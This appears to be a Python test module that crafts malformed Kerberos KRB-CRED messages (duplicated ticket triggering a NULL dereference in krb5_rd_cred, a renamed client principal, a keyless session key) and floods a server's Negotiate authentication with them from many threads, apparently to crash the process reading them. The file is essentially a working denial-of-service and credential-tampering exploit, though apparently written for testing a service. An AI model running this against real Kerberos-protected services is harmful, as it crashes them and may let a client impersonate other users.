"""KRB-CREDs that no library makes, and a client: python -m tests.club.hostile URL THREADS.

The client has the ticket of $KRB5CCNAME.  It sends Negotiate tokens that end the process which
reads them, until its standard input ends; then it prints how often it got each status.
"""

from __future__ import annotations

import base64
import json
import sys
import threading
from collections import Counter
from urllib.parse import urlsplit

import requests

from ceo_common.krb5 import tickets
from tests.club import ap_req


def der(tag: int, content: bytes) -> bytes:
    """A DER element."""
    if len(content) < 128:
        return bytes((tag, len(content))) + content
    length = len(content).to_bytes((len(content).bit_length() + 7) // 8, "big")
    return bytes((tag, 0x80 | len(length))) + length + content


def split(data: bytes) -> list[tuple[int, bytes]]:
    """The DER elements of a content: tag and content of each."""
    found, at = [], 0
    while at < len(data):
        tag, length, at = data[at], data[at + 1], at + 2
        if length & 0x80:
            count = length & 0x7F
            length, at = int.from_bytes(data[at : at + count], "big"), at + count
        found.append((tag, data[at : at + length]))
        at += length
    return found


def _sequence(fields: dict[int, bytes]) -> bytes:
    """A SEQUENCE of tagged fields."""
    return der(0x30, b"".join(der(tag, content) for tag, content in sorted(fields.items())))


def two_tickets(message: bytes) -> bytes:
    """The KRB-CRED with its ticket twice and its ticket-info once.

    krb5_rd_cred dereferences NULL there (CVE-2026-107778).
    """
    ((_, application),) = split(message)
    ((_, sequence),) = split(application)
    fields = dict(split(sequence))
    ((_, ticket_list),) = split(fields[0xA2])
    fields[0xA2] = der(0x30, ticket_list * 2)
    return der(0x76, _sequence(fields))


def renamed(message: bytes, old: str, new: str) -> bytes:
    """The KRB-CRED with another client name of the same length: nothing protects it."""
    assert len(old) == len(new) and message.count(old.encode()) >= 1
    return message.replace(old.encode(), new.encode())


def keyless(message: bytes) -> bytes:
    """The KRB-CRED with encryption type 0 for its session key, and no key."""
    key = der(0xA0, der(0x02, b"\x00")) + der(0xA1, der(0x04, b""))
    ((_, application),) = split(message)
    ((_, sequence),) = split(application)
    fields = dict(split(sequence))
    ((_, encrypted),) = split(fields[0xA3])
    outer = dict(split(encrypted))
    ((_, cipher),) = split(outer[0xA2])
    ((_, application),) = split(cipher)
    ((_, sequence),) = split(application)
    part = dict(split(sequence))
    ((_, infos),) = split(part[0xA0])
    ((_, info),) = split(infos)
    inside = dict(split(info))
    inside[0xA0] = der(0x30, key)

    part[0xA0] = der(0x30, _sequence(inside))
    outer[0xA2] = der(0x04, der(0x7D, _sequence(part)))
    fields[0xA3] = _sequence(outer)
    return der(0x76, _sequence(fields))


def main(url: str, threads: int) -> None:
    """Send until standard input ends."""
    cache = tickets.find().ccache
    cred = two_tickets(tickets.forward(cache))
    over, statuses = threading.Event(), Counter[int]()

    def send() -> None:
        with requests.Session() as session:
            session.verify, session.trust_env = "/etc/csc/ca.pem", False
            while not over.is_set():
                token = ap_req.token(cache, f"ceod/{urlsplit(url).hostname}", cred)
                header = "Negotiate " + base64.b64encode(token).decode()
                answer = session.get(url, headers={"Authorization": header}, timeout=60)
                statuses[answer.status_code] += 1

    workers = [threading.Thread(target=send) for _ in range(threads)]
    for worker in workers:
        worker.start()
    sys.stdin.read()
    over.set()
    for worker in workers:
        worker.join()
    print(json.dumps(statuses))


if __name__ == "__main__":
    main(sys.argv[1], int(sys.argv[2]))
